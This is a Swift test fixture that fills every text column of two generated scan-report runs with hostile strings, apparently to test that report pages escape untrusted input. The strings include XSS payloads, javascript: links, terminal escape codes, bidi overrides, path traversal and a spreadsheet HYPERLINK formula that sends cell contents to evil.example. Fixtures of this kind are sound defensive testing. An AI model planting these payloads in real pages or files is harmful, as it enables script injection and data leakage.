package import Foundation
import Model
package import Store

/// A run in which everything that somebody else wrote is written to break its readers: every text of every table.
///
/// Words that the run itself chooses from a list, as a status, are right in some rows, so that pages show what is beside them.
package struct HostileRun: Sendable {
    package let second: RunFolder.Entry
    package let first: RunFolder.Entry

    /// Text from hosts and from the inventory, and names of hosts and checks as well.
    package static let payloads: [String] = [
        "<script>alert('XSS-1')</script>", "\"><img src=x onerror=alert('XSS-2')>",
        "' onmouseover='alert(\"XSS-3\")", "</main></body></html><script>XSS-4", "<!-- XSS-5",
        "--> XSS-6 ]]>",
        "a\u{600}<b onclick=alert('XSS-7')>", "\"\u{301} autofocus onfocus=alert('XSS-8') x=\"",
        "[XSS-9](javascript:alert(9))", "![XSS-10](https://evil.example/p.png)",
        "<https://evil.example/XSS-11>", "https://evil.example/XSS-12", "javascript:alert('XSS-13')",
        "//evil.example/XSS-14", "{{title}} XSS-15 {{#host}}{{{x}}}",
        "```table findings\nXSS-16: {label: x}\n```",
        "&lt;script&gt;XSS-17&#60;b&#62;", "\u{1B}]0;XSS-18\u{7}\u{1B}[31m", "\u{202E}XSS-19\u{2066}",
        "=HYPERLINK(\"http://evil.example/\"&A1,\"XSS-20\")", "+1+1|XSS-21", "@SUM(1) XSS-22", "\t=1 XSS-23",
        "＝1+XSS-24", "</script><script>XSS-25</script>", "\u{2028}XSS-26\u{2029}",
        "| XSS-27 | b |\n| --- | --- |",
        "# XSS-28\n===", "- [ ] XSS-29", "../../../../XSS-30", "a\r\n\r\n<b>XSS-31", "XSS-32\0<i>",
        "\\<XSS-33\\>\\", "`<b>XSS-34", "<svg/onload=XSS-35>", "<a href=\"javascript:XSS-36\">",
        "XSS-37</textarea></title></style><style>*{}", "\u{FEFF}<XSS-38>", "1. XSS-39",
        "*XSS-40* __b__ ~~c~~",
        "<!doctype XSS-41>", "<?XSS-42?>", "\u{FFFE}<XSS-43\u{10FFFF}>",
    ]

    /// Makes two runs in `folder` whose hosts and checks are called `names`.
    ///
    /// `checkText` is the text of the checks, which a page shows as the Markdown that it is.
    package init(in folder: URL, names: [String] = payloads, checkText: String? = nil) throws {
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let runs = try RunFolder(folder.appending(path: "runs").path)
        for number in 1...2 {
            let start = Agency.start + Int64(number - 2) * Agency.week
            let file = try RunFile(in: runs, startedAt: start, schema: Agency.schema)
            for table in Agency.schema.tables {
                let maker = HostileTable(
                    table: table, number: number, start: start, id: file.id, names: names)
                try file.insert(maker.rows(checkText: checkText), into: table)
            }
            try file.publish()
        }
        let entries = try runs.entries().runs
        guard entries.count == 2 else { throw Problem("\(entries.count) runs") }
        (first, second) = (entries[0], entries[1])
    }
}

/// The rows of one table of such a run.
private struct HostileTable {
    let table: Table
    let number: Int
    let start: Int64
    let id: String
    let names: [String]

    func rows(checkText: String?) -> [Row] {
        let hasHost = table.columns.contains { $0.name == "host" }
        let perName = hasHost && table.name != "targets" && table.name != "inventory_hosts" ? 2 : 1
        let count = table.name == "run" ? 1 : names.count * perName
        return (0..<count).map { index in
            Row(
                table.columns.map { column in
                    if table.name == "checks", column.name == "text" {
                        return .text(checkText ?? payload(index))
                    }
                    return chosen(column.name, index) ?? any(column, index)
                })
        }
    }

    private func payload(_ index: Int) -> String {
        HostileRun.payloads[(index * 7 + number * 3) % HostileRun.payloads.count]
    }

    /// The cell where the run or the page has a say in it.
    private func chosen(_ column: String, _ index: Int) -> Value? {
        let name = Value.text(names[index % names.count])
        switch (table.name, column) {
        case ("run", "id"): return .text(id)
        case ("run", "number"): return .integer(Int64(number))
        case ("run", "started_at"), ("metrics", "at"): return .integer(start)
        case (_, "host"), ("checks", "check_id"), ("findings", "check_id"): return name
        case (_, "severity"):
            return .text(Severity.allCases[index % Severity.allCases.count].rawValue)
        case ("findings", "status"):
            return .text(["fail", "unknown", "resolved", "fail", "error"][index % 5])
        case ("findings", "first_seen"), ("findings", "resolved_at"): return .integer(start)
        case ("findings", "waived_until"): return index % 5 == 3 ? .text(payload(index)) : .null
        case ("targets", "status") where index % 3 > 0:
            return .text(index % 3 == 1 ? "complete" : "unreachable")
        case ("outcomes", "status"): return .text(index % 2 == 0 ? "complete" : payload(index))
        case ("outcomes", "table_name") where index % 2 == 0: return "listening_ports"
        case ("checks", "error"): return index % 2 == 0 ? .null : .text(payload(index))
        case ("checks", "passed"), ("checks", "failed"), ("checks", "skipped"), ("checks", "unknown"):
            return .integer(Int64(index % 3))
        case ("metrics", "name"): return "open"
        // Amounts are bounded where they are read, and these tables are reckoned by us.
        case ("costs", "cost"), ("costs", "report_cost"), ("cost_changes", "change"),
            ("waste", "monthly_cost"),
            ("cost_forecasts", "forecast"), ("cost_forecasts", "budget"), ("cost_forecasts", "to_date"),
            ("charges", "billed_cost"), ("invoices", "total"):
            return [5_000_000, .null, 1_000_000_000_000_000, 0, -1][index % 5]
        default: return nil
        }
    }

    private func any(_ column: Column, _ index: Int) -> Value {
        switch column.kind {
        case .text: .text(payload(index + number))
        case .integer: [1, 4_096, .integer(.max), 0, .null, .integer(.min), -1][index % 7]
        case .real: [.real(0.5), .real(1e308), .null, .real(-1e-308)][index % 4]
        }
    }
}
